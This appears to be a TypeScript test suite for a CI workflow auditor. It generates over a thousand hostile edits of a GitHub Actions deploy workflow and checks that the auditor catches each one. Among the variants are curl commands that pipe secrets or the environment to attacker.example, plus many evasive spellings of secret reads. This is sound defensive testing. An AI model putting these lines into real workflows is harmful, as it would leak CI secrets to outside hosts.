// The users' CI gives a branch nothing (issue 22, point 1): the real workflow passes the audit of
// scripts/ci/workflow-audit.ts, and generated hostile edits of it (a secret in every place of a job
// a pull request starts, in every spelling; deploy jobs whose `if:` still lets a pull request or a
// branch start them; secrets outside an environment; refused triggers; unpinned actions; write
// tokens; install scripts) are each caught, so the audit is shown able to fail. Benign edits (the
// word "secrets" in a script, conditions that keep a job to main) pass, so it does not fail for
// nothing.
import { test } from "node:test";
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import * as yaml from "js-yaml";
import { auditWorkflow, auditWorkflowText, expressionsIn, main, readsSecrets, runsOnlyOnDefaultBranch } from "../../scripts/ci/workflow-audit";

const repo = path.resolve(__dirname, "../../..");
const file = path.join(repo, ".github/workflows/backup-topology.yml");
const text = fs.readFileSync(file, "utf8");
type Doc = Record<string, any>;
const base = (): Doc => yaml.load(text) as Doc;

type Variant = { what: string; edit: (w: Doc) => void; expected: RegExp };

/** Runs every variant on a fresh copy of the real workflow; each must produce a problem matching its expectation. */
function assertCaught(variants: Variant[]): void {
  const missed: string[] = [];
  for (const v of variants) {
    const w = base();
    v.edit(w);
    const problems = auditWorkflow(w);
    if (!problems.some((p) => v.expected.test(p))) missed.push(`${v.what}: expected ${v.expected}, got ${JSON.stringify(problems)}`);
  }
  assert.deepEqual(missed, [], `${missed.length} of ${variants.length} hostile variants not caught`);
}

function assertClean(variants: Array<Omit<Variant, "expected">>): void {
  const wrong: string[] = [];
  for (const v of variants) {
    const w = base();
    v.edit(w);
    const problems = auditWorkflow(w);
    if (problems.length > 0) wrong.push(`${v.what}: ${JSON.stringify(problems)}`);
  }
  assert.deepEqual(wrong, [], "benign variants reported");
}

let generated = 0;
const count = (vs: Variant[]) => ((generated += vs.length), vs);

// Spellings of a read of the secrets: GitHub's contexts ignore case; whitespace and newlines are
// free inside ${{ }}; the whole context can be serialized; a literal "}}" does not end an expression.
const SPELLINGS = [
  "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
  "${{secrets.PULUMI_CONFIG_PASSPHRASE}}",
  "${{\tsecrets.PULUMI_CONFIG_PASSPHRASE    }}",
  "${{\n  secrets.PULUMI_CONFIG_PASSPHRASE\n}}",
  "${{ secrets['PULUMI_CONFIG_PASSPHRASE'] }}",
  "${{ secrets [ 'STATE_SECRET_ACCESS_KEY' ] }}",
  "${{ SECRETS.PULUMI_CONFIG_PASSPHRASE }}",
  "${{ Secrets.state_secret_access_key }}",
  "${{ toJSON(secrets) }}",
  "${{ toJson( secrets ) }}",
  "${{ fromJSON(toJSON(secrets)).PULUMI_CONFIG_PASSPHRASE }}",
  "${{ format('{0}:{1}', secrets.STATE_ACCESS_KEY_ID, secrets.STATE_SECRET_ACCESS_KEY) }}",
  "${{ format('}}', secrets.PULUMI_CONFIG_PASSPHRASE) }}",
  "${{ format('it''s {0}', secrets.PULUMI_CONFIG_PASSPHRASE) }}",
  "x-${{ github.event_name == 'push' && secrets.PULUMI_CONFIG_PASSPHRASE || 'none' }}-y",
  "${{ github.sha }}${{ secrets.PULUMI_BACKEND_URL }}",
  "${{ secrets.GITHUB_TOKEN }}",
];

/** Places in a job where a string is evaluated (job: the job's mapping). */
const JOB_PLACES: Array<[string, (job: Doc, s: string) => void]> = [
  ["job env", (j, s) => (j.env = { ...j.env, P: s })],
  ["step env", (j, s) => (j.steps[2].env = { P: s })],
  ["step with", (j, s) => (j.steps[1].with["node-version"] = s)],
  ["step run text", (j, s) => (j.steps[2].run = `npm ci --ignore-scripts\ncurl -sd "${s}" https://attacker.example/`)],
  ["step name", (j, s) => (j.steps[2].name = s)],
  ["step if", (j, s) => (j.steps[2].if = s)],
  ["step working-directory", (j, s) => (j.steps[2]["working-directory"] = s)],
  ["step shell", (j, s) => (j.steps[2].shell = `bash --noprofile ${s}`)],
  ["step timeout-minutes", (j, s) => (j.steps[2]["timeout-minutes"] = s)],
  ["step continue-on-error", (j, s) => (j.steps[2]["continue-on-error"] = s)],
  ["an added step's env", (j, s) => j.steps.push({ run: "env | curl -sd @- https://attacker.example/", env: { TOKEN: s } })],
  ["an added action's with", (j, s) => j.steps.push({ uses: "./.github/actions/upload", with: { token: s } })],
  ["job if", (j, s) => (j.if = s)],
  ["job name", (j, s) => (j.name = s)],
  ["job runs-on", (j, s) => (j["runs-on"] = s)],
  ["job timeout-minutes", (j, s) => (j["timeout-minutes"] = s)],
  ["job concurrency", (j, s) => (j.concurrency = { group: s })],
  ["job outputs", (j, s) => (j.outputs = { leaked: s })],
  ["job defaults", (j, s) => (j.defaults = { run: { "working-directory": s } })],
  ["job strategy matrix", (j, s) => (j.strategy = { matrix: { p: [s] } })],
  ["job container credentials", (j, s) => (j.container = { image: "node:20", credentials: { username: "u", password: s } })],
  ["job services env", (j, s) => (j.services = { db: { image: "mariadb:11", env: { MARIADB_ROOT_PASSWORD: s } } })],
];

test("the real workflow passes the audit; the pull request's job reads nothing secret, the deploy jobs only in the step that runs pulumi up", () => {
  assert.deepEqual(auditWorkflowText(text), []);
  const w = base();
  const jobs = w.jobs as Record<string, Doc>;
  assert.deepEqual(Object.keys(jobs).sort(), ["check", "clients", "fleet"]);
  assert.ok(Object.keys(w.on).includes("pull_request") && !runsOnlyOnDefaultBranch(jobs.check!.if), "job check runs for pull requests");
  assert.equal(readsSecrets(jobs.check), false);
  assert.equal(jobs.check!.environment, undefined);
  assert.match(jobs.check!.steps.map((s: Doc) => s.run ?? "").join("\n"), /npm ci --ignore-scripts[\s\S]*npm run -s check[\s\S]*workflow-audit\.js/);
  for (const name of ["fleet", "clients"]) {
    const job = jobs[name]!;
    assert.equal(runsOnlyOnDefaultBranch(job.if), true, `${name}: main only`);
    assert.equal(job.environment, "production", `${name}: its secrets come from the protected environment`);
    assert.equal(readsSecrets(job.env ?? {}), false, `${name}: no secret in the job's env (the install and the build run without them)`);
    const reading = job.steps.filter((s: Doc) => readsSecrets(s));
    assert.equal(reading.length, 1, `${name}: one step reads the secrets`);
    assert.match(reading[0].run, /deploy\/run\.sh up/);
    assert.match(JSON.stringify(reading[0].env), /secrets\.PULUMI_CONFIG_PASSPHRASE/);
  }
  assert.equal(readsSecrets({ ...w, jobs: undefined }), false, "nothing at the workflow level reads a secret");
  assert.deepEqual(w.permissions, { contents: "read" });
});

test("a secret anywhere in a job a pull request starts, in any spelling, is caught (check, a new job, a new reusable workflow call)", () => {
  const variants: Variant[] = [];
  for (const s of SPELLINGS) {
    for (const [where, place] of JOB_PLACES) {
      variants.push({ what: `check, ${where}: ${s}`, edit: (w) => place(w.jobs.check, s), expected: /job check can run for a pull request.* and reads a secret/ });
      variants.push({
        what: `a new job without if, ${where}: ${s}`,
        edit: (w) => {
          w.jobs.lint = structuredClone(w.jobs.check);
          delete w.jobs.lint.if;
          place(w.jobs.lint, s);
        },
        expected: /job lint can run for a pull request.* and reads a secret/,
      });
    }
    variants.push({ what: `a reusable workflow's secrets: ${s}`, edit: (w) => (w.jobs.reuse = { uses: "./.github/workflows/deploy.yml", secrets: { passphrase: s } }), expected: /job reuse can run .* and reads a secret/ });
    variants.push({ what: `a reusable workflow's with: ${s}`, edit: (w) => (w.jobs.reuse = { uses: "./.github/workflows/deploy.yml", with: { passphrase: s } }), expected: /job reuse can run .* and reads a secret/ });
  }
  for (const inherit of [{ secrets: "inherit" }, { secrets: "inherit", if: "github.event_name == 'push'" }, { secrets: {} }]) {
    for (const uses of ["./.github/workflows/deploy.yml", "acme/ci/.github/workflows/deploy.yml@8582a9e8cc630786854029b4e09281acd6794b58"]) {
      variants.push({ what: `a reusable workflow call ${uses} ${JSON.stringify(inherit)}`, edit: (w) => (w.jobs.reuse = { uses, ...inherit }), expected: /job reuse can run .* and reads a secret/ });
    }
  }
  assertCaught(count(variants));
  assert.ok(variants.length >= 700, `${variants.length} variants`);
});

test("a secret at the workflow level (env, defaults, run-name, concurrency, name) is caught: every job would get it", () => {
  const places: Array<[string, (w: Doc, s: string) => void]> = [
    ["env", (w, s) => (w.env = { ...w.env, TOKEN: s })],
    ["defaults", (w, s) => (w.defaults = { run: { shell: "bash", "working-directory": s } })],
    ["run-name", (w, s) => (w["run-name"] = `deploy ${s}`)],
    ["concurrency", (w, s) => (w.concurrency = { group: s, "cancel-in-progress": false })],
    ["name", (w, s) => (w.name = s)],
  ];
  const variants: Variant[] = [];
  for (const s of SPELLINGS) for (const [key, place] of places) variants.push({ what: `workflow ${key}: ${s}`, edit: (w) => place(w, s), expected: new RegExp(`workflow-level ${key} reads a secret`) });
  assertCaught(count(variants));
});

// Conditions under which a deploy job could still run for a pull request, a pushed branch, a tag,
// a dispatch on a branch, or an event that runs on main for someone else (issue_comment, …).
const OPEN_CONDITIONS: Array<string | boolean | undefined> = [
  undefined,
  "",
  true,
  "true",
  "'false'",
  "always()",
  "success()",
  "!cancelled()",
  "github.event_name != 'pull_request'",
  "!(github.event_name == 'push')",
  "!(github.event_name == 'push' && github.ref == 'refs/heads/main')",
  "github.event_name == 'push'",
  "github.event_name == 'workflow_dispatch'",
  "github.ref == 'refs/heads/main'",
  "github.ref == 'refs/heads/main' && github.event_name != 'pull_request'",
  "github.event_name == 'push' || github.event_name == 'pull_request'",
  "github.event_name == 'push' && github.ref == 'refs/heads/main' || github.event_name == 'pull_request'",
  "github.event_name == 'push' && github.ref == 'refs/heads/main' || github.event_name == 'PULL_REQUEST'",
  "github.event_name == 'push' && github.ref == 'refs/heads/main' || always()",
  "github.event_name == 'push' && (github.ref == 'refs/heads/main' || true)",
  "github.event_name == 'pull_request' && github.ref == 'refs/heads/main' || github.event_name == 'push'",
  "github.event_name == 'schedule' || github.event_name == 'push' && github.ref == 'refs/heads/main'",
  "github.event_name == 'push' && startsWith(github.ref, 'refs/heads/')",
  "github.event_name == 'push' && endsWith(github.ref, '/main')",
  "github.event_name == 'push' && contains(github.ref, 'main')",
  "github.event_name == 'push' && github.ref != 'refs/heads/feature'",
  "github.event_name == 'push' && github.ref_name == 'main'",
  "github.event_name == 'push' && github.base_ref == 'main'",
  "contains(fromJSON('[\"push\", \"pull_request\"]'), github.event_name) && github.ref == 'refs/heads/main'",
  "github.event_name == 'push' && github.ref == 'refs/heads/main' || github.event.pull_request.head.repo.fork == false",
  "${{ github.event_name == 'push' }} && github.ref == 'refs/heads/main'",
  "${{ github.event_name == 'push' && github.ref == 'refs/heads/main' }} || true",
  "${{ github.event_name == 'push' }} ${{ github.ref == 'refs/heads/main' }}",
  "github.event_name == 'push' && github.ref == 'refs/heads/main' ||",
  "github.event_name == 'push' && github.ref == 'refs/heads/main')",
  "github.event_name == 'push && github.ref == refs/heads/main",
  "github.event_name == 'push' && github.ref == 'refs/heads/main' ; true",
  "github.event_name == 'push' && github.ref == 'refs/heads/mai'",
];

test("a deploy job whose if: still lets a pull request or a branch start it is caught", () => {
  const variants: Variant[] = [];
  for (const job of ["fleet", "clients"]) {
    for (const cond of OPEN_CONDITIONS) {
      variants.push({
        what: `${job} if: ${JSON.stringify(cond)}`,
        edit: (w) => {
          if (cond === undefined) delete w.jobs[job].if;
          else w.jobs[job].if = cond;
        },
        expected: new RegExp(`job ${job} can run for a pull request or a branch .* and reads a secret`),
      });
    }
  }
  assertCaught(count(variants));
  // and the same conditions, evaluated alone
  for (const cond of OPEN_CONDITIONS) assert.equal(runsOnlyOnDefaultBranch(cond), false, JSON.stringify(cond));
});

test("conditions that keep a job to a push or dispatch of main pass", () => {
  const closed = [
    "github.event_name == 'push' && github.ref == 'refs/heads/main'",
    "${{ github.event_name == 'push' && github.ref == 'refs/heads/main' }}",
    "  ${{ !cancelled() && github.event_name == 'push' && github.ref == 'refs/heads/main' }}  ",
    "(github.event_name == 'push' || github.event_name == 'workflow_dispatch') && github.ref == 'refs/heads/main'",
    "github.ref == 'refs/heads/main' && github.event_name == 'workflow_dispatch'",
    "'refs/heads/main' == github.ref && 'push' == github.event_name",
    "github.EVENT_NAME == 'PUSH' && github['ref'] == 'refs/heads/main'",
    "always() && github.event_name == 'push' && github.ref == 'refs/heads/main'",
    "github.event_name == 'push' && github.ref == 'refs/heads/main' && contains(github.event.head_commit.message, 'deploy')",
    "!(github.event_name != 'push' || github.ref != 'refs/heads/main')",
    "false",
  ];
  for (const cond of closed) assert.equal(runsOnlyOnDefaultBranch(cond), true, cond);
  assertClean(closed.map((cond) => ({ what: `fleet if: ${cond}`, edit: (w: Doc) => (w.jobs.fleet.if = cond) })));
  // another default branch: main is then a branch like any other
  assert.equal(runsOnlyOnDefaultBranch(closed[0], { defaultBranch: "trunk" }), false);
  assert.equal(runsOnlyOnDefaultBranch("github.event_name == 'push' && github.ref == 'refs/heads/trunk'", { defaultBranch: "trunk" }), true);
  assert.equal(runsOnlyOnDefaultBranch(closed[4], { deployEvents: ["push"] }), false, "a dispatch when only pushes deploy");
});

test("a job that reads secrets outside a protected environment is caught, wherever it runs", () => {
  const noEnv = /job \S+ reads secrets outside a protected environment/;
  const variants: Variant[] = [];
  for (const job of ["fleet", "clients"]) {
    for (const [what, env] of [
      ["none", undefined],
      ["empty", ""],
      ["only a url", { url: "https://example.org" }],
      ["an expression", "${{ github.event_name == 'push' && 'production' || '' }}"],
      ["a name from an expression", { name: "${{ inputs.environment }}" }],
    ] as const) {
      variants.push({ what: `${job} environment ${what}`, edit: (w) => (env === undefined ? delete w.jobs[job].environment : (w.jobs[job].environment = env)), expected: noEnv });
    }
  }
  variants.push({ what: "a new main-only job with a secret", edit: (w) => (w.jobs.notify = { if: w.jobs.fleet.if, "runs-on": "ubuntu-24.04", steps: [{ run: "curl -d x \"$URL\"", env: { URL: "${{ secrets.WEBHOOK }}" } }] }), expected: noEnv });
  variants.push({ what: "a main-only reusable call inheriting secrets", edit: (w) => (w.jobs.reuse = { if: w.jobs.fleet.if, uses: "./.github/workflows/deploy.yml", secrets: "inherit" }), expected: noEnv });
  assertCaught(count(variants));
  assertClean([{ what: "environment as a mapping", edit: (w) => (w.jobs.fleet.environment = { name: "production", url: "https://example.org" }) }]);
});

test("a job a pull request starts in an environment, with a write token, with install scripts or keeping its token is caught", () => {
  const variants: Variant[] = [];
  for (const env of ["production", { name: "production" }, "staging"]) variants.push({ what: `check environment ${JSON.stringify(env)}`, edit: (w) => (w.jobs.check.environment = env), expected: /job check can run .* enters the environment/ });
  for (const perms of ["write-all", { contents: "write" }, { "pull-requests": "write" }, { actions: "write" }, { "id-token": "write", contents: "read" }, "${{ github.event_name == 'push' && 'write-all' || 'read-all' }}"]) {
    variants.push({ what: `check permissions ${JSON.stringify(perms)}`, edit: (w) => (w.jobs.check.permissions = perms), expected: /job check can run .* with a token that can write/ });
  }
  const installs = [
    "npm ci",
    "npm ci --no-audit --no-fund",
    "npm install",
    "npm i",
    "npm it",
    "npm install-ci-test",
    "npm rebuild",
    "npm --no-audit ci",
    "npm ci --ignore-scripts=false",
    "npm ci # --ignore-scripts",
    "echo --ignore-scripts; npm ci",
    "npm run -s build && npm ci",
    "npm ci --ignore-scripts\nnpm rebuild",
    "pnpm install --frozen-lockfile",
    "yarn",
    "yarn install --frozen-lockfile",
  ];
  for (const run of installs) {
    variants.push({ what: `check run ${JSON.stringify(run)}`, edit: (w) => (w.jobs.check.steps[2].run = run), expected: /job check can run .* runs the install scripts/ });
    variants.push({ what: `a new job run ${JSON.stringify(run)}`, edit: (w) => (w.jobs.lint = { "runs-on": "ubuntu-24.04", steps: [{ run }] }), expected: /job lint can run .* runs the install scripts/ });
  }
  for (const [what, edit] of [
    ["no with", (w: Doc) => delete w.jobs.check.steps[0].with],
    ["empty with", (w: Doc) => (w.jobs.check.steps[0].with = {})],
    ["persist-credentials: true", (w: Doc) => (w.jobs.check.steps[0].with["persist-credentials"] = true)],
    ["persist-credentials: 'true'", (w: Doc) => (w.jobs.check.steps[0].with["persist-credentials"] = "true")],
    ["a second checkout", (w: Doc) => w.jobs.check.steps.push({ uses: w.jobs.check.steps[0].uses, with: { ref: "main" } })],
  ] as const) {
    variants.push({ what: `check checkout ${what}`, edit, expected: /job check can run .* leaves the job's token in \.git\/config/ });
  }
  assertCaught(count(variants));
  assertClean(
    ["npm ci --ignore-scripts", "npm ci --ignore-scripts=true --no-audit", "npm install --ignore-scripts", "npm run -s check", "yarn build", "yarn run lint"].map((run) => ({
      what: `check run ${run}`,
      edit: (w: Doc) => (w.jobs.check.steps[2].run = run),
    })),
  );
});

test("refused triggers (pull_request_target, workflow_run) and a missing or writing workflow-level token are caught", () => {
  const variants: Variant[] = [
    ...[
      (w: Doc) => (w.on = { ...w.on, pull_request_target: {} }),
      (w: Doc) => (w.on = { ...w.on, pull_request_target: { types: ["labeled"], branches: ["main"] } }),
      (w: Doc) => (w.on = "pull_request_target"),
      (w: Doc) => (w.on = ["push", "pull_request_target"]),
      (w: Doc) => (w.on = { pull_request_target: null }),
    ].map((edit, i) => ({ what: `pull_request_target ${i}`, edit, expected: /trigger pull_request_target/ })),
    { what: "workflow_run", edit: (w) => (w.on = { ...w.on, workflow_run: { workflows: ["backup-topology"], types: ["completed"] } }), expected: /trigger workflow_run/ },
    { what: "workflow_run as a list", edit: (w) => (w.on = ["workflow_run"]), expected: /trigger workflow_run/ },
    { what: "no permissions", edit: (w) => delete w.permissions, expected: /no workflow-level permissions/ },
    { what: "write-all", edit: (w) => (w.permissions = "write-all"), expected: /workflow-level permissions .* grant write/ },
    { what: "contents: write", edit: (w) => (w.permissions = { contents: "write" }), expected: /workflow-level permissions .* grant write/ },
    { what: "read and one write", edit: (w) => (w.permissions = { contents: "read", packages: "write" }), expected: /workflow-level permissions .* grant write/ },
  ];
  assertCaught(count(variants));
  assertClean([
    { what: "permissions read-all", edit: (w) => (w.permissions = "read-all") },
    { what: "permissions none", edit: (w) => (w.permissions = {}) },
    { what: "workflow_dispatch added", edit: (w) => (w.on = { ...w.on, workflow_dispatch: {} }) },
    { what: "a write token in a main-only job", edit: (w) => (w.jobs.fleet.permissions = { contents: "read", "id-token": "write" }) },
  ]);
});

test("every action and reusable workflow is pinned by commit, every image by digest", () => {
  const unpinned = [
    "actions/checkout@v4",
    "actions/checkout@v4.4.0",
    "actions/checkout@main",
    "actions/checkout@11d5960",
    "actions/checkout@11d5960a326750d5838078e36cf38b85af67726",
    "actions/checkout@11d5960a326750d5838078e36cf38b85af6772620",
    "actions/checkout@11D5960A326750D5838078E36CF38B85AF677262",
    "actions/checkout",
    "actions/checkout@11d5960a326750d5838078e36cf38b85af677262 ",
    "docker://alpine:3.20",
    "docker://alpine",
    "docker://alpine@sha256:abc",
    "pulumi/actions@v6",
  ];
  const variants: Variant[] = [];
  const w0 = base();
  for (const [job, def] of Object.entries(w0.jobs as Record<string, Doc>)) {
    def.steps.forEach((step: Doc, i: number) => {
      if (!step.uses) return;
      for (const uses of unpinned) variants.push({ what: `${job} step ${i + 1}: ${uses}`, edit: (w) => (w.jobs[job].steps[i].uses = uses), expected: new RegExp(`job ${job}, step ${i + 1}: .* is not pinned by (commit|digest)`) });
    });
  }
  for (const uses of ["acme/ci/.github/workflows/deploy.yml@v1", "acme/ci/.github/workflows/deploy.yml@main"]) {
    variants.push({ what: `a reusable workflow ${uses}`, edit: (w) => (w.jobs.reuse = { if: w.jobs.fleet.if, uses }), expected: /job reuse: .* is not pinned by commit/ });
  }
  assertCaught(count(variants));
  assertClean([
    { what: "a local action", edit: (w) => w.jobs.check.steps.push({ uses: "./.github/actions/lint" }) },
    { what: "an image by digest", edit: (w) => w.jobs.check.steps.push({ uses: `docker://alpine@sha256:${"a".repeat(64)}` }) },
  ]);
});

test("in the file, each pinned action names its tag in a comment", () => {
  const lines = text.split("\n");
  const pinned = lines.flatMap((l, i) => (/^\s*(-\s+)?uses: \S+@[0-9a-f]{40} # v\d/.test(l) ? [i] : []));
  assert.equal(pinned.length, 8, "8 pinned uses: 2 in check, 3 in fleet, 3 in clients");
  const variants: Array<[string, string]> = [];
  for (const i of pinned) {
    for (const [what, f] of [
      ["no comment", (l: string) => l.replace(/\s*#.*$/, "")],
      ["a comment without a tag", (l: string) => l.replace(/#.*$/, "# latest")],
      ["an empty comment", (l: string) => l.replace(/#.*$/, "#")],
    ] as const) {
      variants.push([`line ${i + 1} ${what}`, lines.map((l, j) => (j === i ? f(l) : l)).join("\n")]);
    }
  }
  generated += variants.length;
  for (const [what, edited] of variants) assert.ok(auditWorkflowText(edited).some((p) => /has no "# <tag>" comment/.test(p)), what);
  assert.ok(auditWorkflowText("on: [push\njobs: {").some((p) => /not valid YAML/.test(p)));
});

test("benign uses of the word secrets pass: in a script, a literal, another context's property", () => {
  assertClean(
    [
      (w: Doc) => (w.jobs.check.steps[2].run = 'echo "this job reads no secrets"; npm ci --ignore-scripts'),
      (w: Doc) => (w.jobs.check.steps[2].name = "No secrets here"),
      (w: Doc) => (w.jobs.check.steps[2].if = "!contains(github.event.pull_request.title, 'secrets')"),
      (w: Doc) => (w.jobs.check.env = { WORD: "${{ 'secrets' }}", QUOTE: "${{ format('it''s {0}', 'secrets.X') }}" }),
      (w: Doc) => (w.jobs.check.env = { N: "${{ github.event.pull_request.secrets_count }}", M: "${{ my-secrets.x }}" }),
      (w: Doc) => (w.jobs.check.env = { REF: "${{ github.head_ref }}" }),
      (w: Doc) => (w.on = { ...w.on, workflow_call: { secrets: { PASSPHRASE: { required: true } } } }),
    ].map((edit, i) => ({ what: `benign ${i}`, edit })),
  );
});

test("the expression scanner: a literal '}}' does not end an expression, an unclosed one runs to the end", () => {
  assert.deepEqual(expressionsIn("a ${{ format('}}', secrets.X) }} b ${{x}} c"), [" format('}}', secrets.X) ", "x"]);
  assert.deepEqual(expressionsIn("${{ 'it''s' }}"), [" 'it''s' "]);
  assert.deepEqual(expressionsIn("a ${{ secrets.X"), [" secrets.X"]);
  assert.deepEqual(expressionsIn("no expression"), []);
});

test("the audit's command line: exit 0 on the repository's workflows, 1 on a hostile one", () => {
  const write = process.stdout.write;
  const out: string[] = [];
  process.stdout.write = ((s: string) => (out.push(s), true)) as typeof process.stdout.write;
  try {
    assert.equal(main([], repo), 0);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "workflow-audit-"));
    const hostile = path.join(dir, "hostile.yml");
    fs.writeFileSync(hostile, text.replace("run: npm run -s check", "run: npm run -s check\n        env:\n          P: ${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"));
    assert.equal(main([hostile], dir), 1);
  } finally {
    process.stdout.write = write;
  }
  assert.match(out.join(""), /job check can run for a pull request.* and reads a secret/);
});

test("generated hostile variants, all caught", (t) => {
  // the tests above run in order in this file: their variants are counted by now
  assert.ok(generated >= 1000, `${generated} hostile variants`);
  t.diagnostic(`${generated} hostile variants of the workflow generated and caught`);
});
